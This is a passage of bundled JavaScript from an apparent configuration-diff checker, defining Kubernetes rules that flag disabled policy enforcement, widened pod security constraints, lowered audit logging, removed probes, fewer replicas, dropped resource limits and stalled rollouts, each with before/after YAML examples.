var binding2 = object("admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicyBinding");
var KEYS2 = {
  validationFailureAction: 0,
  failureAction: void 0,
  enforcementAction: 1,
  validationActions: void 0,
  mode: 1
};
var keyOf5 = ({ keys }) => keys.at(-1) ?? "";
function isAction2(setting) {
  const key3 = keyOf5(setting);
  if (!Object.hasOwn(KEYS2, key3) || setting.path.at(-1)?.kind === "item") return false;
  const document = setting.document.after ?? setting.document.before;
  return key3 !== "mode" || document !== void 0 && groupOf(document) === "policies.kubewarden.io";
}
var STOPS = /^(?:enforce|deny|protect)$/i;
var TELLS = /^(?:audit|warn|dryrun|monitor)$/i;
function stops(node) {
  const words2 = textsOf(node);
  if (words2.some((word) => STOPS.test(word))) return 1;
  return words2.length > 0 && words2.every((word) => TELLS.test(word)) ? 0 : void 0;
}
var policy_enforcement_default = [
  control({
    id: "config/policy-not-enforced",
    class: "permission-widening",
    title: "policy no longer enforced",
    why: "Objects that break the policy are let in; that they do stands in a report at most.",
    fix: "Keep the policy enforced, and except by name what must pass.",
    dialect: MANIFESTS,
    governs: isAction2,
    rank: stops,
    absent: (setting) => KEYS2[keyOf5(setting)],
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      drop: moved2("high"),
      template: moved2("medium"),
      hardened: hardened("policy now enforced")
    },
    examples: [
      {
        before: kyverno("validationFailureAction: Enforce"),
        after: kyverno("validationFailureAction: Audit"),
        outcome: "flip"
      },
      { before: constraint(), after: constraint("enforcementAction: dryrun"), outcome: "open" },
      { before: kyverno("validationFailureAction: enforce"), after: kyverno(), outcome: "drop" },
      {
        before: constraint("enforcementAction: deny"),
        after: constraint('enforcementAction: "{{ .Values.action }}"'),
        outcome: "template"
      },
      {
        before: binding2("validationActions: [Warn, Audit]"),
        after: binding2("validationActions: [Deny, Audit]"),
        outcome: "hardened"
      },
      { before: constraint("enforcementAction: deny"), after: constraint(), outcome: "none" },
      { before: "", after: constraint("enforcementAction: warn"), outcome: "none" },
      {
        before: kyverno("validationFailureAction: enforce"),
        after: kyverno("validationFailureAction: Enforce"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/kubernetes/policy-objects.ts
var constraints = (lines = "") => `apiVersion: security.openshift.io/v1
kind: SecurityContextConstraints
metadata: { name: web }
priority: 1
${lines}
`;
var audit = (level3, resource3 = "secrets") => `apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - level: ${level3}
    resources: [{ group: "", resources: [${resource3}] }]
`;
var SWITCHES3 = /* @__PURE__ */ new Set([
  "allowHostDirVolumePlugin",
  "allowHostIPC",
  "allowHostNetwork",
  "allowHostPID",
  "allowHostPorts",
  "allowPrivilegeEscalation",
  "allowPrivilegedContainer",
  "hostIPC",
  "hostNetwork",
  "hostPID",
  "privileged"
]);
var LISTS4 = /* @__PURE__ */ new Set([
  "allowedCapabilities",
  "allowedHostPaths",
  "allowedUnsafeSysctls",
  "defaultAddCapabilities",
  "volumes"
]);
var KINDS = /* @__PURE__ */ new Set(["PodSecurityPolicy", "SecurityContextConstraints"]);
var isConstraint = ({ keys, document }) => SWITCHES3.has(keys.at(-1) ?? "") && KINDS.has(kindOf(document.after ?? document.before));
var isAllowance = ({ keys, document }) => LISTS4.has(keys.at(-1) ?? "") && KINDS.has(kindOf(document.after ?? document.before));
var namesNoMore = (node, { before: before3 }) => {
  const known2 = new Set(textsOf(before3));
  return Number(known2.has("*") || textsOf(node).every((text) => known2.has(text)));
};
var isAuditLevel = ({ keys, document }) => {
  const known2 = document.after ?? document.before;
  return endsWith(keys, ["rules", "level"]) && known2 !== void 0 && groupOf(known2) === "audit.k8s.io";
};
var policy_objects_default = [
  control({
    id: "config/security-constraints-widened",
    class: "permission-widening",
    title: "pods may ask for more",
    why: "Every pod that these constraints apply to may now ask for this right over its node.",
    fix: "Keep it shut, and make constraints of their own for the one account that needs it.",
    equivalents: [
      "checkov:CKV_K8S_1",
      "checkov:CKV_K8S_2",
      "checkov:CKV_K8S_3",
      "checkov:CKV_K8S_4",
      "checkov:CKV_K8S_5",
      "kube-linter:scc-deny-privileged-container"
    ],
    dialect: "kubernetes",
    governs: isConstraint,
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "pods may ask for less",
      weak: "allowPrivilegedContainer: true",
      safe: "allowPrivilegedContainer: false",
      file: constraints
    })
  }),
  control({
    id: "config/security-constraints-grown",
    class: "permission-widening",
    title: "pods may ask for more kinds of access",
    why: "Every pod that these constraints apply to may now ask for the new entry too.",
    fix: "Keep the list short, and make constraints of their own for the one account that needs more.",
    equivalents: ["checkov:CKV_K8S_24"],
    dialect: "kubernetes",
    governs: isAllowance,
    rank: namesNoMore,
    outcomes: { flip: moved2("high") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      {
        before: constraints("allowedCapabilities: [CHOWN]"),
        after: constraints("allowedCapabilities: [CHOWN, SYS_ADMIN]"),
        outcome: "flip"
      },
      { before: constraints("volumes: [secret]"), after: constraints("volumes: ['*']"), outcome: "flip" },
      {
        before: constraints("volumes: [secret, configMap]"),
        after: constraints("volumes: [configMap]"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/audit-level-lowered",
    class: "observability",
    title: "audit log records less",
    why: "Who did what to these objects can no longer be told in full afterwards.",
    fix: "Keep at least `Metadata` for everything that changes or reads secrets.",
    dialect: "kubernetes",
    governs: isAuditLevel,
    rank: ordered(["RequestResponse", "Request", "Metadata", "None"]),
    outcomes: { blind: moved2("high"), less: moved2("medium"), hardened: hardened("audit log records more") },
    refine: ({ transition, to }) => {
      if (transition === "hardened") return "hardened";
      if (transition !== "flip") return void 0;
      return to === "None" ? "blind" : "less";
    },
    examples: [
      { before: audit("Metadata"), after: audit("None"), outcome: "blind" },
      { before: audit("RequestResponse"), after: audit("Metadata"), outcome: "less" },
      { before: audit("None"), after: audit("Metadata"), outcome: "hardened" },
      { before: audit("Metadata"), after: audit("Metadata", "secrets, configmaps"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/probe-settings.ts
var probed = (probe2) => container(`ports: [{ containerPort: 80 }]
livenessProbe: { ${probe2} }`);
var HTTP = "httpGet: { path: /, port: 80 }";
var asked = ({ from: from3 = "", to = "" }) => `A probe goes from \`${from3}\` to \`${to}\`.`;
var SLOWER = 3;
var secondsOf = (node) => Number(textsOf(node)[0] ?? Number.NaN);
var asFast = (node, { before: before3 }) => Number(secondsOf(node) <= SLOWER * secondsOf(before3));
var probe_settings_default = [
  control({
    id: "config/probe-replaced",
    class: "availability",
    title: "probe asks something else",
    why: "What the probe found out before, it may miss now: a container that does not work counts as working.",
    fix: "Check that the new question fails when the container does not work.",
    equivalents: ["kube-linter:liveness-port", "kube-linter:readiness-port"],
    dialect: "kubernetes",
    governs: isEffective("probe.target"),
    rank: sameText,
    outcomes: {
      other: { risk: "low", message: asked },
      unlisted: {
        risk: "medium",
        message: asked,
        title: "probe asks a port the container does not list",
        why: "Where nothing answers on that port, the container is restarted over and over, or gets no requests.",
        fix: "Ask a port that the container lists, or list this one."
      }
    },
    refine: ({ transition, to = "" }) => {
      if (transition !== "flip") return void 0;
      return isListedPort(to) ? "other" : "unlisted";
    },
    examples: [
      { before: probed(HTTP), after: probed("tcpSocket: { port: 80 }"), outcome: "other" },
      { before: probed(HTTP), after: probed("httpGet: { path: /live, port: 80 }"), outcome: "other" },
      { before: probed(HTTP), after: probed("httpGet: { path: /, port: 8080 }"), outcome: "unlisted" },
      { before: probed(HTTP), after: probed(`${HTTP}, periodSeconds: 5`), outcome: "none" },
      {
        before: probed(HTTP),
        after: probed("httpGet: { path: /, port: web }").replace("containerPort: 80", "containerPort: 80, name: web"),
        outcome: "none"
      },
      { before: probed(HTTP), after: container("ports: [{ containerPort: 80 }]"), outcome: "none" }
    ]
  }),
  control({
    id: "config/probe-slower",
    class: "availability",
    title: "failures found much later",
    why: "A container that hangs keeps its requests for more than three times as long as before.",
    fix: "Keep `periodSeconds` times `failureThreshold` as short as the container allows.",
    dialect: "kubernetes",
    governs: isEffective("probe.seconds"),
    rank: asFast,
    outcomes: {
      flip: {
        risk: "low",
        message: (c) => `A failure is noticed after ${c.to ?? ""} seconds, no longer after ${c.from ?? ""}.`
      }
    },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: probed(`${HTTP}, periodSeconds: 10`), after: probed(`${HTTP}, periodSeconds: 60`), outcome: "flip" },
      { before: probed(HTTP), after: probed(`${HTTP}, failureThreshold: 30`), outcome: "flip" },
      { before: probed(HTTP), after: probed(`${HTTP}, periodSeconds: 20`), outcome: "none" }
    ]
  }),
  control({
    id: "config/probe-timeout-shortened",
    class: "availability",
    title: "probe given less time to answer",
    why: "A container that is only slow, under load for instance, now counts as broken and is restarted.",
    fix: "Keep the timeout above the slowest answer of a container that works.",
    dialect: WORKLOADS2,
    governs: either(
      ...["readinessProbe", "livenessProbe", "startupProbe"].map((probe2) => inContainer(probe2, "timeoutSeconds"))
    ),
    rank: (node) => node.kind === "scalar" && /^\d{1,5}$/.test(node.text) ? Number(node.text) : void 0,
    absent: 1,
    outcomes: { flip: moved2("low"), drop: moved2("low"), hardened: hardened("probe given more time to answer") },
    examples: [
      { before: probed(`${HTTP}, timeoutSeconds: 10`), after: probed(`${HTTP}, timeoutSeconds: 1`), outcome: "flip" },
      { before: probed(`${HTTP}, timeoutSeconds: 10`), after: probed(HTTP), outcome: "drop" },
      { before: probed(HTTP), after: probed(`${HTTP}, timeoutSeconds: 5`), outcome: "hardened" },
      { before: probed(HTTP), after: probed(`${HTTP}, timeoutSeconds: 1`), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/probes.ts
var probe = (name, path27 = "/healthz") => container(`${name}:
  httpGet: { path: ${path27}, port: 8080 }
  periodSeconds: 10`);
var IN_VALUES2 = { path: "charts/app/values.yaml" };
var VALUES3 = "sidecars:\n  containers:\n  - name: web\n";
var served = (workload, app = "web") => `${workload.replace("    spec:\n", "    metadata: { labels: { app: web } }\n    spec:\n")}---
apiVersion: v1
kind: Service
metadata: { name: front }
spec: { selector: { app: ${app} } }
`;
var examples2 = (name) => [
  { before: probe(name), after: container(), outcome: "drop" },
  { before: container(), after: probe(name), outcome: "hardened" },
  { before: probe(name), after: probe(name, "/livez"), outcome: "none" },
  { before: probe(name), after: "", outcome: "none" },
  { before: "", after: container(), outcome: "none" }
];
var probes_default = [
  control({
    id: "config/readiness-probe-removed",
    class: "availability",
    title: "readiness probe removed",
    why: "Services send requests to a container that has only just started, and rollouts go on over pods that do not work.",
    fix: "Keep the readiness probe; if its path moved, point it there.",
    equivalents: ["checkov:CKV_K8S_9", "kube-linter:no-readiness-probe"],
    dialect: WORKLOADS2,
    governs: (setting) => inContainer("readinessProbe")(setting) && !isReadiness(setting),
    rank: present,
    absent: 0,
    outcomes: {
      drop: removed("medium", "readiness probe"),
      hardened: added("readiness probe added", "readiness probe")
    },
    examples: [
      { ...IN_VALUES2, before: `${VALUES3}    readinessProbe: { periodSeconds: 10 }
`, after: VALUES3, outcome: "drop" },
      { before: container(), after: probe("readinessProbe"), outcome: "hardened" },
      { before: probe("readinessProbe"), after: probe("readinessProbe", "/ready"), outcome: "none" },
      { before: probe("readinessProbe"), after: "", outcome: "none" }
    ]
  }),
  configRule({
    id: "config/readiness-removed",
    on: "readiness-removed",
    class: "availability",
    title: "readiness probe removed",
    why: "Requests reach a container that has only just started, and rollouts go on over pods that do not work.",
    fix: "Keep the readiness probe; if its path moved, point it there.",
    equivalents: ["checkov:CKV_K8S_9", "kube-linter:no-readiness-probe"],
    outcomes: {
      served: {
        risk: "high",
        message: (c) => `\`${c.container}\` lost its readiness probe, and the Service \`${c.service ?? ""}\` sends it requests.`
      },
      removed: { risk: "medium", message: (c) => `\`${c.container}\` lost its readiness probe.` }
    },
    examples: [
      { before: served(probe("readinessProbe")), after: served(container()), outcome: "served" },
      { before: probe("readinessProbe"), after: container(), outcome: "removed" },
      { before: served(probe("readinessProbe"), "shop"), after: served(container(), "shop"), outcome: "removed" },
      { before: probe("readinessProbe"), after: probe("readinessProbe", "/ready"), outcome: "none" },
      { before: probe("readinessProbe"), after: "", outcome: "none" }
    ],
    classify: ({ service: service6 }) => service6 === void 0 ? "removed" : "served"
  }),
  control({
    id: "config/liveness-probe-removed",
    class: "availability",
    title: "liveness probe removed",
    why: "A container that hangs is no longer restarted.",
    fix: "Keep the liveness probe; if it restarts too much, raise its `failureThreshold`.",
    equivalents: ["checkov:CKV_K8S_8", "kube-linter:no-liveness-probe"],
    dialect: WORKLOADS2,
    governs: inContainer("livenessProbe"),
    rank: present,
    absent: 0,
    outcomes: { drop: removed("medium", "liveness probe"), hardened: added("liveness probe added", "liveness probe") },
    examples: examples2("livenessProbe")
  }),
  control({
    id: "config/startup-probe-removed",
    class: "availability",
    title: "startup probe removed",
    why: "A slow start now counts against the liveness probe, which may restart the container before it is up.",
    fix: "Keep the startup probe, or give the liveness probe an `initialDelaySeconds` to match.",
    dialect: WORKLOADS2,
    governs: inContainer("startupProbe"),
    rank: present,
    absent: 0,
    outcomes: { drop: removed("low", "startup probe"), hardened: added("startup probe added", "startup probe") },
    examples: examples2("startupProbe")
  }),
  control({
    id: "config/pre-stop-removed",
    class: "availability",
    title: "preStop hook removed",
    why: "The container stops at once, while load balancers still send it requests: each rollout cuts some off.",
    fix: "Keep the hook, or let the process drain its connections on SIGTERM.",
    dialect: WORKLOADS2,
    governs: inContainer("lifecycle", "preStop"),
    rank: present,
    absent: 0,
    outcomes: { drop: removed("medium", "`preStop` hook"), hardened: added("preStop hook added", "`preStop` hook") },
    examples: [
      {
        before: container('lifecycle:\n  preStop:\n    exec: { command: [sleep, "5"] }'),
        after: container(),
        outcome: "drop"
      },
      {
        before: container(),
        after: container('lifecycle:\n  preStop:\n    exec: { command: [sleep, "5"] }'),
        outcome: "hardened"
      },
      {
        before: container("lifecycle:\n  postStart:\n    exec: { command: [warm-up] }"),
        after: container(),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/kubernetes/references.ts
var selecting = (selected, given2) => `apiVersion: apps/v1
kind: Deployment
metadata: { name: web }
spec:
  selector: { matchLabels: { app: ${selected} } }
  template:
    metadata: { labels: { app: ${given2}, tier: front } }
    spec: { containers: [{ name: web, image: web }] }
`;
var probed2 = (port, ports2 = "[{ name: http, containerPort: 8080 }]") => container(`ports: ${ports2}
livenessProbe: { httpGet: { path: /, port: ${port} } }`);
var references_default = [
  control({
    id: "config/selector-misses-pods",
    class: "compatibility",
    title: "workload does not select its own pods",
    why: "The API refuses the object: the labels of its pods must match its selector.",
    fix: "Give the template the labels that the selector asks for.",
    equivalents: ["kube-linter:mismatching-selector"],
    dialect: "kubernetes",
    governs: isEffective("own labels"),
    rank: (node, { before: before3, document }) => Number(selectsItsPods(node, node === before3 ? document.before?.root : document.after?.root)),
    absent: 1,
    outcomes: {
      flip: { risk: "high", message: () => "The labels of the pod template no longer match the selector." },
      born: { risk: "high", message: () => "The labels of the new pod template do not match the selector." }
    },
    examples: [
      { before: selecting("web", "web"), after: selecting("web", "shop"), outcome: "flip" },
      { before: "", after: selecting("web", "shop"), outcome: "born" },
      { before: selecting("web", "web"), after: selecting("web", "web # the shop"), outcome: "none" },
      { before: selecting("web", "shop"), after: selecting("web", "store"), outcome: "none" }
    ]
  }),
  control({
    id: "config/probe-port-unknown",
    class: "availability",
    title: "probe asks a port that is not there",
    why: "The probe fails on every attempt: the container is restarted over and over, or gets no requests.",
    fix: "Name a port that the container lists, or give its number.",
    equivalents: ["kube-linter:liveness-port", "kube-linter:readiness-port", "kube-linter:startup-port"],
    dialect: "kubernetes",
    governs: isEffective("probe.port"),
    rank: (node, { before: before3, ownerBefore, ownerAfter }) => Number(hasPort(node, node === before3 ? ownerBefore : ownerAfter)),
    absent: 1,
    outcomes: {
      flip: {
        risk: "high",
        message: (c) => `A probe asks the port \`${c.to ?? ""}\`, which the container does not list.`
      },
      open: {
        risk: "high",
        message: (c) => `A new probe asks the port \`${c.to ?? ""}\`, which the container does not list.`
      },
      born: {
        risk: "medium",
        message: (c) => `A probe of the new container asks the port \`${c.to ?? ""}\`, which it does not list.`
      }
    },
    examples: [
      { before: probed2("http"), after: probed2("web"), outcome: "flip" },
      { before: probed2("http"), after: probed2("http", "[{ name: web, containerPort: 8080 }]"), outcome: "flip" },
      { before: container(), after: probed2("web"), outcome: "open" },
      { before: "", after: probed2("web"), outcome: "born" },
      { before: probed2("http"), after: probed2("8080"), outcome: "none" },
      { before: probed2("http"), after: probed2("9090"), outcome: "none" },
      { before: probed2("web"), after: probed2("http"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/replicas.ts
var deployment2 = object("apps/v1", "Deployment");
var apart2 = (how) => deployment2(`template: { spec: { affinity: { podAntiAffinity: { ${how}: [{ topologyKey: zone }] } } } }`);
var spread = (otherwise) => deployment2(
  `template: { spec: { topologySpreadConstraints: [{ topologyKey: zone, whenUnsatisfiable: ${otherwise} }] } }`
);
var REQUIRED = "requiredDuringSchedulingIgnoredDuringExecution";
var replicas_default = [
  control({
    id: "config/replicas-lowered",
    class: "availability",
    title: "replicas lowered",
    why: "One pod is left: each restart, node drain or crash is an outage.",
    fix: "Keep two replicas or more.",
    equivalents: ["kube-linter:minimum-three-replicas"],
    dialect: WORKLOADS2,
    governs: either(atEnd("spec", "replicas"), atEnd("replicaCount"), atEnd("deploy", "replicas")),
    rank: (node) => node.kind === "scalar" && /^\d{1,6}$/.test(node.text) ? Number(node.text) : void 0,
    absent: 1,
    outcomes: {
      stopped: { ...moved2("high"), title: "workload stopped", why: "No pod is left: whoever calls it gets an error." },
      single: moved2("medium"),
      doubled: hardened("more than one replica")
    },
    refine: ({ from: from3 = "1", to = "1", transition }) => {
      if (transition === "hardened") return from3 === "1" ? "doubled" : void 0;
      if (transition !== "flip") return void 0;
      if (to === "0") return "stopped";
      return to === "1" ? "single" : void 0;
    },
    examples: [
      { before: deployment2("replicas: 3"), after: deployment2("replicas: 0"), outcome: "stopped" },
      { before: deployment2("replicas: 3"), after: deployment2("replicas: 1"), outcome: "single" },
      { before: deployment2("replicas: 1"), after: deployment2("replicas: 2"), outcome: "doubled" },
      { before: deployment2("replicas: 5"), after: deployment2("replicas: 4"), outcome: "none" },
      { before: deployment2("replicas: 3"), after: deployment2(), outcome: "none" }
    ]
  }),
  control({
    id: "config/no-rollback",
    class: "availability",
    title: "no version kept to roll back to",
    why: "With no old revision kept, `kubectl rollout undo` has nothing to return to.",
    fix: "Keep at least one revision.",
    dialect: "kubernetes",
    governs: atEnd("spec", "revisionHistoryLimit"),
    rank: unless("0"),
    ...weakWhenSet({
      risk: "medium",
      praise: "old versions kept for rollback",
      weak: "revisionHistoryLimit: 0",
      safe: "revisionHistoryLimit: 5",
      file: deployment2
    })
  }),
  control({
    id: "config/no-grace-period",
    class: "availability",
    title: "no time left to shut down",
    why: "Pods are killed at once: requests in flight are cut off and unsaved work is lost.",
    fix: "Give the process the time it needs to finish; 30 seconds is the default.",
    dialect: WORKLOADS2,
    governs: atEnd("terminationGracePeriodSeconds"),
    rank: (node) => node.kind === "scalar" && /^\d{1,9}$/.test(node.text) ? Number(Number(node.text) > 1) : void 0,
    ...weakWhenSet({
      risk: "medium",
      praise: "time left to shut down",
      weak: "template: { spec: { terminationGracePeriodSeconds: 0 } }",
      safe: "template: { spec: { terminationGracePeriodSeconds: 60 } }",
      file: deployment2
    })
  }),
  control({
    id: "config/spread-removed",
    class: "availability",
    title: "pods no longer spread over nodes",
    why: "All replicas may land on one node, and go down with it.",
    fix: "Keep the anti-affinity or the spread constraints.",
    equivalents: ["kube-linter:no-anti-affinity"],
    dialect: WORKLOADS2,
    governs: either(atEnd("affinity", "podAntiAffinity"), atEnd("topologySpreadConstraints")),
    rank: present,
    absent: 0,
    outcomes: {
      drop: removed("medium", "rule that spreads the pods"),
      hardened: added("pods now spread over nodes", "rule that spreads the pods")
    },
    examples: [
      {
        before: deployment2("template: { spec: { affinity: { podAntiAffinity: { x: [] } } } }"),
        after: deployment2("template: { spec: {} }"),
        outcome: "drop"
      },
      {
        before: deployment2("template: { spec: {} }"),
        after: deployment2("template: { spec: { topologySpreadConstraints: [{ maxSkew: 1 }] } }"),
        outcome: "hardened"
      },
      {
        before: deployment2("template: { spec: { affinity: { nodeAffinity: { x: [] } } } }"),
        after: deployment2("template: { spec: {} }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/spread-preferred",
    class: "availability",
    title: "pods spread only where it is easy",
    why: "Where room is short, all replicas may land on one node or in one zone, and go down with it.",
    fix: "Keep the rule required, or have enough nodes that it always holds.",
    equivalents: ["kube-linter:no-anti-affinity"],
    dialect: WORKLOADS2,
    governs: either(
      atEnd("affinity", "podAntiAffinity", REQUIRED),
      atEnd("topologySpreadConstraints", "whenUnsatisfiable")
    ),
    rank: (node, { ownerAfter }) => {
      if (node.kind === "scalar") return Number(node.text !== "ScheduleAnyway");
      return ownerAfter === void 0 ? void 0 : 1;
    },
    outcomes: {
      flip: moved2("medium"),
      drop: { risk: "medium", message: () => "Pods are no longer required to run apart." }
    },
    refine: ({ transition }) => transition === "flip" || transition === "drop" ? transition : void 0,
    examples: [
      {
        before: apart2(REQUIRED),
        after: apart2("preferredDuringSchedulingIgnoredDuringExecution"),
        outcome: "drop"
      },
      { before: spread("DoNotSchedule"), after: spread("ScheduleAnyway"), outcome: "flip" },
      { before: spread("ScheduleAnyway"), after: spread("DoNotSchedule"), outcome: "none" },
      { before: apart2(REQUIRED), after: deployment2("template: { spec: {} }"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/resources.ts
var NOTABLE = 0.25;
var amount2 = (node) => node.kind === "scalar" ? quantity(node.text) : void 0;
var memory = (node, { document }) => document.dialect === "compose" && node.kind === "scalar" ? dockerBytes(node.text) : amount2(node);
var bytes = (text) => quantity(text) ?? dockerBytes(text) ?? 0;
var resource2 = (list, ...names2) => ({ keys }) => keys.at(-2) === list && keys.at(-3) === "resources" && names2.includes(keys.at(-1) ?? "");
var fallsMuch = ({ from: from3 = "", to = "" }) => bytes(to) < bytes(from3) * (1 - NOTABLE);
var limits = (text) => container(`resources:
  limits: { ${text} }`);
var requests = (text) => container(`resources:
  requests: { ${text} }`);
var resources_default = [
  control({
    id: "config/memory-limit",
    class: "availability",
    title: "memory limit removed",
    why: "One leak can take all memory of the node, and the kernel then kills other pods.",
    fix: "Keep a memory limit; raise it where it is too tight.",
    equivalents: ["checkov:CKV_K8S_13", "kube-linter:unset-memory-requirements"],
    dialect: WORKLOADS2,
    governs: resource2("limits", "memory"),
    rank: memory,
    absent: 0,
    outcomes: {
      drop: moved2("medium"),
      lowered: {
        ...moved2("medium"),
        title: "memory limit lowered",
        why: "The kernel kills the container as soon as it needs more than the new limit.",
        fix: "Compare the new limit with the peak the container really reaches."
      },
      trimmed: {
        ...moved2("low"),
        title: "memory limit lowered",
        why: "The kernel kills the container as soon as it needs more than the new limit.",
        fix: "Compare the new limit with the peak the container really reaches."
      }
    },
    refine: (change) => {
      if (change.transition === "drop") return "drop";
      if (change.transition !== "flip") return void 0;
      return fallsMuch(change) ? "lowered" : "trimmed";
    },
    examples: [
      { before: limits("memory: 512Mi"), after: container(), outcome: "drop" },
      { before: limits("memory: 512Mi, cpu: 1"), after: limits("cpu: 1"), outcome: "drop" },
      { before: limits("memory: 1Gi"), after: limits("memory: 512Mi"), outcome: "lowered" },
      { before: limits("memory: 1Gi"), after: limits("memory: 1000Mi"), outcome: "trimmed" },
      { before: limits("memory: 1Gi"), after: limits("memory: 1024Mi"), outcome: "none" },
      { before: limits("memory: 512Mi"), after: limits("memory: 1Gi"), outcome: "none" }
    ]
  }),
  control({
    id: "config/cpu-limit",
    class: "availability",
    title: "processor limit removed",
    why: "A busy container may now slow down its neighbours, as far as their requests let it.",
    fix: "Make sure every pod of the node requests the processor time it needs.",
    equivalents: ["checkov:CKV_K8S_11", "kube-linter:unset-cpu-requirements"],
    dialect: WORKLOADS2,
    governs: resource2("limits", "cpu"),
    rank: amount2,
    absent: 0,
    outcomes: {
      drop: moved2("low"),
      lowered: {
        ...moved2("low"),
        title: "processor limit lowered",
        why: "The container is slowed down as soon as it needs more, and its probes may time out.",
        fix: "Compare the new limit with what the container really uses under load."
      }
    },
    refine: (change) => {
      if (change.transition === "drop") return "drop";
      return change.transition === "flip" && fallsMuch(change) ? "lowered" : void 0;
    },
    examples: [
      { before: limits("cpu: 500m"), after: container(), outcome: "drop" },
      { before: limits("cpu: 1"), after: limits("cpu: 500m"), outcome: "lowered" },
      { before: limits("cpu: 1"), after: limits("cpu: 1000m"), outcome: "none" },
      { before: limits("cpu: 1"), after: limits("cpu: 900m"), outcome: "none" }
    ]
  }),
  control({
    id: "config/resource-request-removed",
    class: "availability",
    title: "resource request removed",
    why: "The scheduler no longer keeps room for the container, and it is among the first to go when a node is full.",
    fix: "Keep a request near what the container uses.",
    equivalents: ["checkov:CKV_K8S_10", "checkov:CKV_K8S_12"],
    dialect: WORKLOADS2,
    governs: resource2("requests", "memory", "cpu"),
    rank: (node) => amount2(node) === void 0 ? void 0 : 1,
    absent: 0,
    outcomes: { drop: moved2("low") },
    examples: [
      { before: requests("cpu: 100m"), after: container(), outcome: "drop" },
      { before: requests("cpu: 100m"), after: requests("cpu: 200m"), outcome: "none" },
      { before: container(), after: requests("cpu: 100m"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/rollout-pace.ts
var deployment3 = object("apps/v1", "Deployment");
var statefulSet = object("apps/v1", "StatefulSet");
var rolling = (fields) => deployment3(`strategy: { rollingUpdate: { ${fields} } }`);
var grace = (seconds2) => deployment3(`template: { spec: { terminationGracePeriodSeconds: ${seconds2} } }`);
var LIMITS3 = ["maxSurge", "maxUnavailable"];
var isNone = (owner, limit2) => /^0%?$/.test(textAt(owner, limit2) ?? "");
var isLimit2 = (setting) => {
  if (!LIMITS3.some((limit2) => atEnd("rollingUpdate", limit2)(setting))) return false;
  const { ownerBefore, ownerAfter } = setting;
  const changed4 = LIMITS3.find((limit2) => textAt(ownerBefore, limit2) !== textAt(ownerAfter, limit2));
  return changed4 === setting.keys.at(-1);
};
var canMove = (node, { before: before3, ownerBefore, ownerAfter }) => {
  const owner = node === before3 ? ownerBefore : ownerAfter;
  return Number(!LIMITS3.every((limit2) => isNone(owner, limit2)));
};
var whole2 = (node) => node.kind === "scalar" && /^\d{1,9}$/.test(node.text) ? Number(node.text) : void 0;
var rollout_pace_default = [
  control({
    id: "config/rollout-stuck",
    class: "availability",
    title: "rollout cannot begin",
    why: "No pod may be added and none may be missing: the API refuses the update.",
    fix: "Set `maxSurge` or `maxUnavailable` above 0.",
    dialect: WORKLOADS2,
    governs: isLimit2,
    rank: canMove,
    absent: 1,
    outcomes: { flip: moved2("high"), open: moved2("high"), born: moved2("medium") },
    examples: [
      {
        before: rolling("maxSurge: 1, maxUnavailable: 0"),
        after: rolling("maxSurge: 0, maxUnavailable: 0"),
        outcome: "flip"
      },
      {
        before: rolling("maxSurge: 1, maxUnavailable: 1"),
        after: rolling("maxSurge: 0, maxUnavailable: 0"),
        outcome: "flip"
      },
      { before: rolling("maxUnavailable: 0"), after: rolling("maxSurge: 0, maxUnavailable: 0"), outcome: "open" },
      { before: "", after: rolling("maxSurge: 0, maxUnavailable: 0%"), outcome: "born" },
      {
        before: rolling("maxSurge: 1, maxUnavailable: 1"),
        after: rolling("maxSurge: 1, maxUnavailable: 0"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/rollout-surge",
    class: "availability",
    title: "rollout needs more room, or gets none",
    why: "Without surge each step waits for a pod to stop; above 100% the cluster must hold more than twice the pods.",
    fix: "Keep `maxSurge` between one pod and `100%`.",
    dialect: WORKLOADS2,
    governs: atEnd("rollingUpdate", "maxSurge"),
    rank: (node, setting) => {
      if (node.kind !== "scalar" || canMove(node, setting) === 0) return void 0;
      return Number(!/^0%?$/.test(node.text) && !/^(?:10[1-9]|1[1-9]\d|[2-9]\d\d|\d{4,})%$/.test(node.text));
    },
    absent: 1,
    outcomes: { flip: moved2("low"), open: moved2("low"), born: moved2("info") },
    examples: [
      {
        before: rolling("maxSurge: 1, maxUnavailable: 1"),
        after: rolling("maxSurge: 0, maxUnavailable: 1"),
        outcome: "flip"
      },
      { before: rolling("maxUnavailable: 1"), after: rolling("maxSurge: 200%, maxUnavailable: 1"), outcome: "open" },
      { before: "", after: rolling("maxSurge: 0, maxUnavailable: 1"), outcome: "born" },
      { before: rolling("maxSurge: 1"), after: rolling("maxSurge: 100%"), outcome: "none" }
    ]
  }),
  control({
    id: "config/rollout-held-back",
    class: "availability",
    title: "update held back",
    why: "Pods below this number keep the old version, security fixes included.",
    fix: "Set `partition` back to 0 once the first pods have proven the update.",
    dialect: WORKLOADS2,
    governs: atEnd("updateStrategy", "rollingUpdate", "partition"),
    rank: (node) => node.kind === "scalar" ? Number(node.text === "0") : void 0,
    ...weakWhenSet({
      risk: "low",
      praise: "update goes to all pods",
      weak: "updateStrategy: { rollingUpdate: { partition: 2 } }",
      safe: "updateStrategy: { rollingUpdate: { partition: 0 } }",
      file: statefulSet
    })
  }),
  control({
    id: "config/ready-time-shortened",
    class: "availability",
    title: "new pods are trusted sooner, or given up sooner",
    why: "A rollout goes on over pods that crash a moment later, or is reported as failed while slow ones still start.",
    fix: "Keep the time longer than a start, good or bad, takes to show.",
    dialect: WORKLOADS2,
    governs: either(atEnd("spec", "minReadySeconds"), atEnd("spec", "progressDeadlineSeconds")),
    rank: whole2,
    absent: 0,
    outcomes: { flip: moved2("low"), drop: moved2("low") },
    examples: [
